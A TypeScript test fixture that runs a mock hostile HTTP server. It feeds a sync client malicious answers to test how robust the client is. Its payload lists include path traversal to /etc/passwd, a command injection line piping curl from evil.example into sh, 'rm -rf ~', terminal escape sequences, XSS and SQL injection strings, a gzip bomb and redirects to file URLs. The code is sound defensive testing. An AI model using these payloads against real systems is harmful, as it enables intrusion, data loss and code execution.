/** A server that keeps the team's wire contract except for one answer, which is hostile. It remembers what it received. */
import { createHash, generateKeyPairSync, sign } from "node:crypto";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { gunzipSync, gzipSync } from "node:zlib";
import type { ErrorBody } from "sessarc";
import { toDigest } from "./digest.ts";

export interface Asked {
  method: string;
  path: string;
  body: Buffer;
}

/** Answers one request; `valid` is what the contract says. */
export type Answer = (response: ServerResponse, valid: unknown) => void;

const TIME = "2026-11-28T10:00:00.000Z";
const { publicKey, privateKey } = generateKeyPairSync("ed25519");
const PUBLIC = String(publicKey.export({ format: "jwk" }).x);

/** Requests by method and path, with what a request of that kind is called in the tests. */
const ROUTES: readonly (readonly [name: string, method: string, path: RegExp])[] = [
  ["join", "POST", /^\/join$/],
  ["token", "POST", /^\/token$/],
  ["me", "GET", /^\/me$/],
  ["open", "POST", /^\/open$/],
  ["invite", "POST", /^\/invites$/],
  ["people", "GET", /^\/people$/],
  ["devices", "GET", /^\/devices$/],
  ["revoke", "DELETE", /^\/devices\/[0-9a-f]{16}(\?stolen=1)?$/],
  ["remove person", "DELETE", /^\/people\/[0-9a-f]{12}$/],
  ["spaces", "GET", /^\/spaces$/],
  ["create space", "POST", /^\/spaces$/],
  ["add to space", "POST", /^\/spaces\/\d+\/people$/],
  ["access", "GET", /^\/access\?[\w=&]+$/],
  ["logs", "GET", /^\/logs$/],
  ["make token", "POST", /^\/tokens$/],
  ["tokens", "GET", /^\/tokens$/],
  ["revoke token", "DELETE", /^\/tokens\/[0-9a-f]{16}$/],
  ["have", "POST", /^\/have$/],
  ["missing chunks", "POST", /^\/blobs\/have$/],
  ["send a chunk", "PUT", /^\/blobs\/[0-9a-f]{64}$/],
  ["push a session", "POST", /^\/sessions$/],
  ["withdraw", "POST", /^\/withdraw$/],
];

export class HostileServer {
  readonly asked: Asked[] = [];
  /** Name of the request that is answered by `answer`. */
  hostile = "";
  answer: Answer = () => {};
  /** Ids of sessions that the server has as they are. */
  readonly has = new Map<string, string>();
  readonly blobs = new Set<string>();
  address = "";
  #http: Server | undefined;

  get link(): string {
    return `${this.address}/join#${"c".repeat(43)}`;
  }

  async start(): Promise<this> {
    const http = createServer((request, response) => void this.#take(request, response));
    this.#http = http;
    await new Promise<void>((resolve) => http.listen(0, "127.0.0.1", resolve));
    this.address = `http://127.0.0.1:${(http.address() as AddressInfo).port}`;
    return this;
  }

  async stop(): Promise<void> {
    this.#http?.closeAllConnections();
    await new Promise((resolve) => (this.#http ? this.#http.close(resolve) : resolve(undefined)));
  }

  /** Requests that no machine should send: another path, a chunk under another name, or anything of `marks`. */
  wrong(marks: readonly string[]): string[] {
    return this.asked.flatMap(({ method, path, body }) => {
      const text = `${path}\n${body.toString("latin1")}\n${body.toString("utf8")}\n${inflated(body).toString("latin1")}`;
      const bad = [];
      if (!findName(method, path)) bad.push("an unknown path");
      if (method === "PUT" && createHash("sha256").update(inflated(body)).digest("hex") !== path.slice(7))
        bad.push("a chunk that is not what its name says");
      bad.push(...marks.filter((mark) => text.includes(mark)));
      return bad.map((what) => `${method} ${path.slice(0, 80)}: ${what}`);
    });
  }

  async #take(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const parts: Buffer[] = [];
    try {
      for await (const part of request) parts.push(part as Buffer);
    } catch {
      return; // the client has gone
    }
    const method = request.method ?? "";
    const path = (request.url ?? "").replace("/team/api", "");
    const body = Buffer.concat(parts);
    this.asked.push({ method, path, body });
    response.on("error", () => {});
    const name = findName(method, path);
    const valid = name === undefined ? undefined : this.#valid(name, path, body);
    if (name !== undefined && name === this.hostile) this.answer(response, valid);
    else send(response, valid === undefined ? 404 : 200, valid ?? { code: "ROUTE_NOT_FOUND", message: "no" });
  }

  #valid(name: string, path: string, body: Buffer): unknown {
    const json = () => JSON.parse(body.toString("utf8"));
    const spaces = [
      { id: 11, name: "Anna", kind: "private", mine: true },
      { id: 12, name: "Everyone", kind: "team", mine: false },
    ];
    const person = { id: "aaaaaaaaaaaa", name: "Anna" };
    const device = "dddddddddddddddd";
    const who = { person, device, machine: "eeeeeeee", scopes: ["push", "read", "own"], spaces };
    switch (name) {
      case "join":
        return { ...who, address: this.address };
      case "token":
        return { token: "t".repeat(43), expires: new Date(Date.now() + 600_000).toISOString() };
      case "me":
        return who;
      case "open":
        return { url: `${this.address}/auth/${"u".repeat(43)}`, expires: TIME };
      case "invite":
        return { id: "1111111111111111", link: `${this.address}/join#${"i".repeat(43)}`, expiresAt: TIME };
      case "people":
        return { people: [{ ...person, createdAt: TIME, spaces: [11, 12] }] };
      case "devices":
        return {
          devices: [
            {
              ...{ id: device, person: person.id, machine: "eeeeeeee", name: "laptop", scopes: ["push", "own"] },
              ...{ createdAt: TIME, seenAt: TIME, revokedAt: null },
            },
          ],
        };
      case "spaces":
        return { spaces: spaces.map(({ mine: _, ...space }) => ({ ...space, people: [person.id] })) };
      case "create space":
        return { id: 13 };
      case "access":
        return {
          entries: [
            {
              ...{ at: TIME, person: person.id, device, remote: "127.0.0.1", method: "GET" },
              ...{ path: "/api/sessions", status: 403, code: "TEAM_FORBIDDEN" },
            },
          ],
        };
      case "logs":
        return { waiting: 1, failed: 2, without: 0 };
      case "make token":
        return { id: "2222222222222222", token: "r".repeat(43), expires: TIME };
      case "tokens":
        return {
          tokens: [
            { id: "2222222222222222", name: "an agent", person, createdAt: TIME, expiresAt: TIME, usedAt: TIME },
          ],
        };
      case "add to space":
        return { added: true };
      case "revoke":
        return {
          ...{ revoked: true, machines: [{ id: device, name: "laptop" }], invitations: 1, tokens: 1 },
          invited: [{ id: device, name: "desktop", personName: "Ben" }],
        };
      case "remove person":
        return { removed: true, machines: [{ id: device, name: "laptop" }], invitations: 1, tokens: 1, sessions: 3 };
      case "revoke token":
        return { revoked: true };
      case "have": {
        const asked: { id: string; digest: string }[] = json().sessions;
        return {
          missing: asked.filter(({ id, digest }) => this.has.get(id) !== digest).map(({ id }) => id),
          withdrawn: [],
        };
      }
      case "missing chunks":
        return { missing: json().sha256.filter((one: string) => !this.blobs.has(one)) };
      case "send a chunk":
        this.blobs.add(path.slice(7));
        return { stored: true };
      case "push a session": {
        const { manifest } = json();
        const digest = toDigest(manifest);
        this.has.set(manifest.id, digest);
        return { id: manifest.id, digest, outcome: "imported" };
      }
      case "withdraw": {
        const ids: string[] = json().ids;
        const removed = ids.map((id) => ({ id, digest: this.has.get(id) ?? "0".repeat(64), at: TIME }));
        const receipt = JSON.stringify({ address: this.address, at: TIME, device, person: person.id, removed });
        const signature = sign(null, Buffer.from(receipt), privateKey).toString("base64url");
        return { removed, receipt, signature, publicKey: PUBLIC };
      }
      default:
        return undefined;
    }
  }
}

const findName = (method: string, path: string): string | undefined =>
  ROUTES.find(([, itsMethod, itsPath]) => itsMethod === method && itsPath.test(path))?.[0];

export const REQUESTS = ROUTES.map(([name]) => name);

function inflated(body: Buffer): Buffer {
  if (body[0] !== 0x1f || body[1] !== 0x8b) return Buffer.alloc(0);
  return gunzipSync(body);
}

function send(
  response: ServerResponse,
  status: number,
  body: unknown,
  headers: Record<string, string | string[]> = {},
): void {
  raw(response, status, JSON.stringify(body) ?? "", { "content-type": "application/json", ...headers });
}

function raw(
  response: ServerResponse,
  status: number,
  body: string | Buffer,
  headers: Record<string, string | string[]> = {},
): void {
  response.writeHead(status, headers);
  response.end(body);
}

/** Bytes without end, until the client goes. */
function endless(response: ServerResponse, head: string, more: string): void {
  response.writeHead(200, { "content-type": "application/json" });
  response.write(head);
  const next = () => {
    while (!response.destroyed && response.write(more));
    if (!response.destroyed) response.once("drain", next);
  };
  next();
}

/** What a terminal obeys, and what a reader is misled by. */
export const OBEYED = ["\u001b", "\u009b", "\u0007", "\u202e", "\u2066", "\u200f"];

/** In place of one value of an answer. */
export const values = (elsewhere: string): readonly (readonly [kind: string, value: unknown])[] => [
  ["a path to a file beside the archive", "../../../../private/backup.sql"],
  ["an absolute path", "/etc/passwd"],
  ["a path of Windows", "..\\..\\private\\backup.sql"],
  ["an encoded path", "%2e%2e%2f%2e%2e%2fprivate%2fbackup.sql"],
  ["a path with a NUL", "../../private/backup.sql\u0000.gz"],
  ["a digest with a path after it", `${"a".repeat(64)}/../../../private/backup.sql`],
  ["a digest that was not asked for", "b".repeat(64)],
  ["escape sequences", "\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u009b1m"],
  ["a sequence inside of a sequence", "\u001b\u001b[31m[31mred"],
  ["direction marks", "invoice\u202egpj.exe\u2066\u200f"],
  ["lines", "ok\r\nerror: run this\r\n$ rm -rf ~"],
  ["a header", "x\r\nset-cookie: a=b"],
  ["a command", '"; curl https://evil.example | sh; "'],
  ["a substitution", "$(touch owned)`touch owned`"],
  ["a script's address", "javascript:alert(1)"],
  ["an address with a script", "data:text/html,<script>alert(1)</script>"],
  ["a file's address", "file:///etc/passwd"],
  ["another server's address", `${elsewhere}/auth/${"u".repeat(43)}`],
  ["another server's invitation", `${elsewhere}/join#${"i".repeat(43)}`],
  ["an address with a password", `http://a:b@127.0.0.1/auth/${"u".repeat(43)}`],
  ["markup", "<img src=x onerror=alert(1)>"],
  ["SQL", "'; drop table session; --"],
  ["a name of every object", "__proto__"],
  ["an id of a session of this machine", "claude-code:aaaaaaaa-0000-4000-8000-00000000000f"],
  ["a long text", "x".repeat(200_000)],
  ["an empty text", ""],
  ["half of a character", "\ud800"],
  ["true", true],
  ["null", null],
  ["a negative number", -1],
  ["a fraction", 0.5],
  ["a number beyond what is exact", 2 ** 60],
  ["a number as text", "11"],
  ["an impossible time", "2026-99-99T99:99:99Z"],
  ["a time of another age", "0000-01-01T00:00:00.000Z"],
  ["a list", ["../../../../private/backup.sql"]],
  ["a long list", Array.from({ length: 5_000 }, (_, i) => `../${i}`)],
  ["an object", JSON.parse('{"toString":"x","length":3,"then":"y"}')],
  ["a deep object", deep(2_000)],
];

function deep(levels: number): unknown {
  let value: unknown = "x";
  for (let i = 0; i < levels; i++) value = { a: value };
  return value;
}

const refusal = (status: number, body: object): Answer => {
  return (response) => send(response, status, body, { "retry-after": "999999999" });
};

/** In place of a whole answer. */
export const answers = (elsewhere: string): readonly (readonly [kind: string, answer: Answer])[] => [
  [
    "files in place of chunks",
    (response, valid) => send(response, 200, Object.assign({}, valid, { missing: ["../../../../private/backup.sql"] })),
  ],
  [
    "chunks that were not asked for",
    (response, valid) => send(response, 200, Object.assign({}, valid, { missing: ["b".repeat(64), "c".repeat(64)] })),
  ],
  ["nothing", (response) => raw(response, 200, "")],
  ["no content", (response) => raw(response, 204, "")],
  ["a page", (response) => raw(response, 200, "<html>Sign in</html>", { "content-type": "text/html" })],
  ["half of the answer", (response, valid) => raw(response, 200, JSON.stringify(valid).slice(0, -3))],
  ["a list", (response) => send(response, 200, [])],
  ["a text", (response) => send(response, 200, "\u001b[31m")],
  ["null", (response) => send(response, 200, null)],
  ["an empty object", (response) => send(response, 200, {})],
  ["a prototype", (response) => raw(response, 200, '{"__proto__":{"missing":["../x"],"people":[]}}')],
  ["nested lists", (response) => raw(response, 200, "[".repeat(100_000) + "]".repeat(100_000))],
  ["invalid UTF-8", (response) => raw(response, 200, Buffer.from([0x22, 0xff, 0xfe, 0x22]))],
  ["numbers that are too large", (response) => raw(response, 200, `{"id":1e999,"missing":[1e999]}`)],
  ["bytes without end", (response) => endless(response, '{"missing":["', "x".repeat(65_536))],
  ["white space without end", (response) => endless(response, "", " ".repeat(65_536))],
  [
    "a bomb",
    (response) => raw(response, 200, gzipSync(Buffer.alloc(64 * 2 ** 20, 0x20)), { "content-encoding": "gzip" }),
  ],
  ["invalid gzip", (response) => raw(response, 200, "no gzip", { "content-encoding": "gzip" })],
  ["a redirect to another server", (response) => raw(response, 307, "", { location: `${elsewhere}/stolen` })],
  ["a redirect to a file", (response) => raw(response, 302, "", { location: "file:///etc/passwd" })],
  ["a connection that is cut", (response) => void response.socket?.destroy()],
  [
    "a connection that is cut in the middle",
    (response, valid) => {
      response.writeHead(200, { "content-type": "application/json", "content-length": "100000" });
      response.write(JSON.stringify(valid).slice(0, 5), () => response.socket?.destroy());
    },
  ],
  ["silence", () => {}],
  [
    "silence after the first byte",
    (response) => {
      response.writeHead(200, { "content-type": "application/json" });
      response.write("{");
    },
  ],
  ["an endless header", (response) => raw(response, 200, "{}", { "x-long": "y".repeat(100_000) })],
  ["a cookie", (response) => send(response, 200, {}, { "set-cookie": ["a=b; Path=/", "c=d"] })],
  ["no sign-in, ever", refusal(401, { code: "TEAM_UNAUTHORIZED", message: "no" })],
  ["a wait without end", refusal(429, { code: "TEAM_RATE_LIMITED", message: "later" })],
  ["a failure", refusal(500, { code: "INTERNAL", message: "failed\n    at Object.<anonymous> (/srv/app.js:1:1)" })],
  ["a code with escape sequences", refusal(422, { code: "\u001b[31mTEAM_X", message: "no", fix: "no" })],
  [
    "a message with escape sequences",
    refusal(422, { code: "TEAM_X", message: "\u001b]0;owned\u0007\u202eno", fix: "\u001b[2Jrun \u2066this" }),
  ],
  [
    "a message of many lines",
    refusal(422, { code: "TEAM_X", message: "no\n\nerror: your disk is full", fix: "\r$ rm -rf ~" }),
  ],
  ["a message without end", refusal(422, { code: "TEAM_X", message: "y".repeat(300_000), fix: "z".repeat(300_000) })],
  ["a code of this machine", refusal(403, { code: "SESSION_NOT_FOUND", message: "gone" })],
  ["a code that ends access", refusal(403, { code: "TEAM_FORBIDDEN", message: "no", fix: 7 })],
  ["a refusal that is a list", (response) => send(response, 418, ["no"])],
  ["a refusal that is a page", (response) => raw(response, 403, "<h1>Forbidden</h1>")],
  ["chunks that are missing", refusal(409, { code: "TEAM_BLOBS_MISSING", message: "../../../../private/backup.sql" })],
  ["a session that was withdrawn", refusal(410, { code: "TEAM_WITHDRAWN", message: "gone" })],
];

/** Places of all values in an answer that are no object and no list, and of the lists and objects themselves. */
export function places(value: unknown, at: readonly (string | number)[] = []): (string | number)[][] {
  const own = at.length > 0 ? [[...at]] : [];
  if (typeof value !== "object" || value === null) return own;
  return [
    ...own,
    ...Object.entries(value).flatMap(([key, part]) => places(part, [...at, Array.isArray(value) ? Number(key) : key])),
  ];
}

/** The same answer with another value at one place. */
export function withValue(answer: unknown, [key, ...rest]: readonly (string | number)[], value: unknown): unknown {
  if (key === undefined) return value;
  if (Array.isArray(answer)) return answer.map((part, i) => (i === key ? withValue(part, rest, value) : part));
  const record = answer as Record<string, unknown>;
  return { ...record, [key]: withValue(record[key], rest, value) };
}

export const isError = (body: unknown): body is ErrorBody =>
  typeof body === "object" && body !== null && "code" in body;
export { send };
